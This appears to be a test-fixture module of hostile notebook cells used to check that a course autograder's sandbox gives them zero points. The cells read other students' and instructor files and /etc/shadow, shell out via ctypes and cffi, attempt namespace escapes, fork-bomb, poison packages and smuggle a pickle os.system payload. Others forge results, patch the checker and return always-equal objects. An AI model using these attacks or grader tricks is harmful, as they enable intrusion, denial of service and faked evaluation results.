"""Notebooks that attack the grading: each is a cell of Python under the names of exercises.

In the texts NEIGHBOUR, SECRET, SOURCE, KIT, PORT and EVIL stand for another student's notebook, a
file of the instructor, a notebook with solutions, the kit's folder, a port on which the instructor's
machine listens, and a file that nobody must make. Each should get 0 points, or those in EARNED.
"""

LEAK = "import numpy as np\ndef leak(train, valid):\n    return np.isin(valid, train).mean()\n"

STEAL = """
import os, sys
def look():
    found = []
    for path in (NEIGHBOUR, SECRET, SOURCE, KIT + "/exercises/data.py", "/etc/passwd", "/etc/shadow"):
        try:
            found.append(open(path).read()[-4000:])
        except OSError as error:
            found.append(type(error).__name__)
    return found
"""

REPLAY = """
import importlib, sys
MG = "mg"  # what is written whole is refused before it is called
def replay(name, arguments):
    '''Run the kit's own checker on a function that raises, and read what it compares with.'''
    sys.path[:0] = [KIT + "/..", KIT]
    catalogue = importlib.import_module(MG + "utils.course.exercises.catalogue")
    answers = importlib.import_module(MG + "utils.course.exercises.answers")
    wanted = []
    answers.Answer.close_to = answers.Answer.equals = lambda self, value, **_: wanted.append(value)
    catalogue.judge(catalogue.find(name), lambda *_: 0)
    return wanted[0]
"""

HOSTILE = {
    "cffi": STEAL + """
def leak(train, valid):
    import cffi
    ffi = cffi.FFI()
    ffi.cdef("int system(const char *); int getppid(void); int kill(int, int);")
    libc = ffi.dlopen(None)
    libc.system(f"cat {NEIGHBOUR} {SECRET} > /tmp/seen; touch {EVIL}".encode())
    return libc.kill(libc.getppid(), 9), look(), os.listdir("/tmp")
""",
    "forkserver": STEAL + """
def leak(train, valid):
    import glob, multiprocessing, socket
    found = glob.glob("/tmp/**/listener-*", recursive=True) + [open("/proc/net/unix").read()]
    for line in found[-1].splitlines()[1:]:
        with socket.socket(socket.AF_UNIX) as one:
            one.connect(line.split()[-1].replace("@", chr(0)))
    with multiprocessing.get_context("forkserver").Pool(1) as pool:
        return pool.apply(look), found
""",
    "ctypes": STEAL + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def leak(train, valid):
    buffer = ctypes.create_string_buffer(4000)
    for path in (NEIGHBOUR, SECRET, SOURCE):
        libc.read(libc.open(path.encode(), 0), buffer, 4000)
    libc.open(EVIL.encode(), 0o101, 0o600)
    return libc.system(f"touch {EVIL}".encode()), buffer.raw
def class_folders(names):
    # out of the namespaces
    return [libc.unshare(0x10000000), libc.mount(b"/proc/1/root", b"/tmp", None, 4096, None),
            libc.setns(os.open("/proc/1/ns/mnt", 0), 0), libc.ptrace(16, 1, 0, 0), look()]
""",
    "half_message": """
import os, struct, time
def leak(train, valid):
    for handle in range(3, 40):
        try:
            os.write(handle, struct.pack("!i", 1000))
        except OSError:
            pass
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            pass
""",
    "prlimit": """
import os, resource, signal
def leak(train, valid):
    done = []
    for pid in [os.getppid(), *range(1, 5000)]:
        if pid != os.getpid():
            for act in (lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
                        lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0)),
                        lambda: os.kill(pid, signal.SIGKILL)):
                try:
                    done.append(act())
                except OSError:
                    pass
    return done
""",
    "touch_files": """
import os, sys, glob
def leak(train, valid):
    done = []
    for path in [NEIGHBOUR, SECRET, SOURCE, KIT + "/losses/image_text.py", os.__file__, sys.executable, "/usr/lib",
                 "/"]:
        for act in (lambda: os.utime(path, (1, 1)), lambda: os.setxattr(path, "user.evil", b"1"),
                    lambda: os.chmod(path, 0o777), lambda: os.truncate(path, 0), lambda: os.remove(path),
                    lambda: os.rename(path, path + ".evil")):
            try:
                done.append((act(), path))
            except OSError:
                pass
    return done
""",
    "argv": """
MG = "mg"
import gc, os, sys, glob
import numpy as np
def words():
    found = [*sys.orig_argv, *os.environ.items()]
    for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
        try:
            found.append(open(path).read())
        except OSError:
            pass
    frame = sys._getframe()
    while frame:
        found += [str(value)[:2000] for value in frame.f_locals.values()]
        frame = frame.f_back
    return found
def leak(train, valid):
    return words()
def effective_number(images):
    text = str(words())
    assert "seed" not in text and "4711" not in text, "FOUND THE SEED"
    known = ("mgutils.course.exercises.calls", "mgutils.course.exercises.inspection", "mgutils.course.grading.reader",
             "mgutils.course.grading.worker", "mgutils.course.exercises", "mgutils.course.grading")
    modules = {str(getattr(value, "__module__", "")) for value in gc.get_objects()} | set(sys.modules)
    return [name for name in modules if name.startswith(MG + "utils.") and name.count(".") > 1 and name not in known]
""",
    "replayed_checkers": REPLAY + "".join(
        f"\ndef {name}(*arguments, **named):\n    return replay({name!r}, arguments)\n" for name in (
        "class_folders", "leak", "look_up", "grouped_split", "zoo_captions", "cosine_matrix", "project", "zero_shot",
        "zoo_pooling", "row_softmax", "multi_positive_targets", "jensen_shannon", "two_gradients", "stuck_scores",
        "symmetric_loss", "zoo_directions", "plateau_rates", "adamw", "zoo_batches", "zoo_shuffle", "top_k", "uar",
        "clip_accuracy", "zoo_accuracy", "zoo_predict", "deal_captions", "nearest_vote", "dealing_p",
        "reported_score", "effective_number", "sign_flip_p", "bootstrap_people")),
    "borrowed_kit": """
import sys
MG = "mg"
def kit(name):
    sys.path[:0] = [KIT + "/..", KIT]
    return __import__(MG + "utils." + name, fromlist=["x"])
def multi_positive_targets(classes):
    return kit("losses").label_distribution(classes)
def sign_flip_p(gains):
    return kit("metrics.paired").sign_flip(gains)
def zoo_directions(logits, target):
    losses = kit("losses")
    return losses.both_directions(losses.cross_entropy, target, logits)
def look_up(train_clips, train_classes, valid_clips):
    import losses
    return losses.js_divergence
""",
    "patched_reader": """
import ast, dis, inspect, sys, torch
class Patch:
    for module in list(sys.modules.values()):
        for name in ("is_stub", "read", "names_used", "borrowed", "facts", "_is_stub", "needed", "verdict"):
            if hasattr(module, name):
                setattr(module, name, lambda *_: False)
    dis.get_instructions = lambda *_: []
    ast.walk = symtable = lambda *_: []
def row_softmax(scores):
    Patch
    return torch.softmax(scores, dim=1)
def cosine_matrix(images, texts):
    Patch
    return torch.nn.functional.cosine_similarity(images[:, None], texts[None], dim=2)
""",
    "hidden_names": """
import operator, torch
from torch import nn
soft = "soft"
def row_softmax(scores):
    return getattr(torch, soft + "max")(scores, 1)
def cosine_matrix(images, texts):
    return operator.attrgetter("cosine_" + "similarity")(nn.functional)(images[:, None], texts[None], dim=2)
def uar(answers, target):
    return eval("__import__('sklearn.metrics').metrics.balanced_" + "accuracy_score(t, a)", {"t": target, "a": answers})
""",
    "patched_json": """
import base64, json, sys
class Patch:
    old = json.dumps
    json.dumps = lambda *_, **__: '["value", true, "solved"]'
    json.loads = lambda *_, **__: {"status": "solved", "points": 62}
    for module in list(sys.modules.values()):
        for name in ("pack", "call_here", "respond"):
            if hasattr(module, name):
                setattr(module, name, lambda *_, **__: ["value", True])
def leak(train, valid):
    Patch
    return 0.4
def class_folders(names):
    Patch
    return True
""",
    "forged_lines": """
import json, os
def leak(train, valid):
    for line in (["value", True], {"verdict": "solved"}, {"leak": "solved"}, [["solved"]], "solved", 1, None,
                 ["failed", "solved", {}], ["value", ["other", "0.4"]], ["value", ["dict", 1]], ["value"], []):
        for handle in range(3, 40):
            try:
                os.write(handle, json.dumps(line).encode() + b"\\n")
            except OSError:
                pass
    return 0.4
""",
    "always_equal": """
import numpy as np
class Same(float):
    __eq__ = __le__ = __ge__ = lambda *_: True
    __hash__ = float.__hash__
    dtype = property(lambda self: np.dtype(float))
class Yes(np.ndarray):
    __eq__ = __array_ufunc__ = __array_function__ = lambda *_, **__: True
class Folders(list):
    __eq__ = lambda *_: True
def leak(train, valid):
    return Same(0.7)
def class_folders(names):
    return Folders(["1"])
def look_up(train_clips, train_classes, valid_clips):
    return np.zeros(len(valid_clips)).view(Yes)
""",
    "fork": LEAK + """
import os
def class_folders(names):
    while True:
        try:
            os.fork()
        except OSError:
            pass
def look_up(train_clips, train_classes, valid_clips):
    import subprocess
    return subprocess.run(["touch", EVIL]).returncode
def zoo_captions(folders, names):
    import multiprocessing
    process = multiprocessing.get_context("fork").Process(target=print)
    process.start()
    return process.pid
""",
    "threads": LEAK + """
import atexit, os, threading, time
def outlive():
    while True:
        time.sleep(0.01)
        open(EVIL, "w")
atexit.register(outlive)
def class_folders(names):
    for _ in range(10000):
        threading.Thread(target=outlive).start()
    return names
def look_up(train_clips, train_classes, valid_clips):
    os.setsid()
    os.execv("/bin/sh", ["sh", "-c", f"sleep 1; touch {EVIL}"])
""",
    "sockets": """
import socket
def leak(train, valid):
    with socket.create_connection(("127.0.0.1", PORT), timeout=1) as one:
        one.send(b"evil")
        return one.recv(100)
def class_folders(names):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return one.sendto(b"evil", ("127.0.0.1", PORT))
def look_up(train_clips, train_classes, valid_clips):
    return socket.getaddrinfo("example.org", 80)
""",
    "symlinks": STEAL + """
def leak(train, valid):
    os.symlink(NEIGHBOUR, "/tmp/a")
    os.symlink("/proc/1/root" + SECRET, "/tmp/b")
    return [open("/tmp/a").read(), open("/tmp/b").read()]
def class_folders(names):
    return [open("/proc/1/root" + path).read() for path in (SECRET, NEIGHBOUR)]
def zoo_captions(folders, names):
    return [os.listdir(path) for path in ("/", "/root", "/home", KIT, "/tmp", "/box", "/proc/1/cwd")]
""",
    "exits": """
import os
""" + "".join(f"def {name}(*arguments):\n    os._exit(0)\n" for name in (
        "leak", "class_folders", "look_up", "zoo_captions", "uar", "top_k", "effective_number", "dealing_p")),
    "exits_at_once": """
import os
class Now:
    os._exit(0)
def leak(train, valid):
    return Now
""",
    "endless_output": """
import os, sys
def leak(train, valid):
    while True:
        print("x" * 1000)
def class_folders(names):
    while True:
        for handle in range(1, 10):
            try:
                os.write(handle, b"x" * 65536)
            except OSError:
                pass
def look_up(train_clips, train_classes, valid_clips):
    return "x" * 10**8
""",
    "memory": """
import numpy as np
def leak(train, valid):
    return bytearray(10**11)
def class_folders(names):
    kept = []
    while True:
        kept.append(np.ones(10**7))
def zoo_captions(folders, names):
    import os
    for place in ("/tmp", "/dev/shm"):
        for number in range(1000):
            open(f"{place}/{number}", "wb").write(b"x" * 10**6)
def look_up(train_clips, train_classes, valid_clips):
    import os
    return [os.write(os.memfd_create("x"), b"x" * 10**8) for _ in range(1000)]
""",
    "swallows_limits": """
import signal
def leak(train, valid):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while True:
        pass
def class_folders(names):
    while True:
        try:
            sorted(range(10**7))
        except BaseException:
            pass
def look_up(train_clips, train_classes, valid_clips):
    return 10 ** 10 ** 9
""",
    "forged_arrays": """
import base64, json, os
import numpy as np
def npy(header, body=b""):
    text = header.encode()
    text += b" " * (63 - (len(text) + 10) % 64) + b"\\n"
    return base64.b64encode(b"\\x93NUMPY\\x01\\x00" + len(text).to_bytes(2, "little") + text + body).decode()
def send(value):
    for handle in range(3, 40):
        try:
            os.write(handle, json.dumps(["value", value]).encode() + b"\\n")
        except OSError:
            pass
def leak(train, valid):
    send(["array", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }")])
def look_up(train_clips, train_classes, valid_clips):
    send(["array", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000, 0), }")])
def effective_number(images):
    send(["array", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
                       b"\\x80\\x04cposix\\nsystem\\n(X\\x05\\x00\\x00\\x00false\\x85R.")])
def reported_score(select, report):
    send(["array", npy("{'descr': '<U0', 'fortran_order': False, 'shape': (99999999999,), }")])
""",
    "strange_answers": """
import sys
class Evil:
    def __reduce__(self):
        import os
        return os.system, (f"touch {EVIL}",)
    def __repr__(self):
        raise SystemExit
endless = []
endless.append(endless)
deep = None
for _ in range(100000):
    deep = [deep]
def leak(train, valid):
    return endless
def class_folders(names):
    return [Evil(), "\\ud800", "\\x1b[2J"]
def look_up(train_clips, train_classes, valid_clips):
    return deep
def effective_number(images):
    return 10**5000
def uar(answers, target):
    return "<script>alert(1)</script>\\ud800\\x00"
""",
    "poisons_packages": """
import os, sys
import numpy, torch
def leak(train, valid):
    done = []
    for place in [os.path.dirname(numpy.__file__), os.path.dirname(torch.__file__), os.path.dirname(os.__file__),
                  *sys.path, "/box", "/usr/lib", "/tmp/../root", "/"]:
        for name in ("sitecustomize.py", "evil.pth", "usercustomize.py", "json.py", "worker.py"):
            try:
                open(f"{place}/{name}", "a").write("import os; os._exit(0)")
                done.append(place)
            except OSError:
                pass
    return done
""",
    "hidden_notebook_magic": """
%matplotlib inline
!touch EVIL_PATH
x = !cat SECRET_PATH
get_ipython().system("touch EVIL_PATH")
def leak(train, valid):
    return x
""",
}

EARNED = {"fork": 1, "threads": 1}
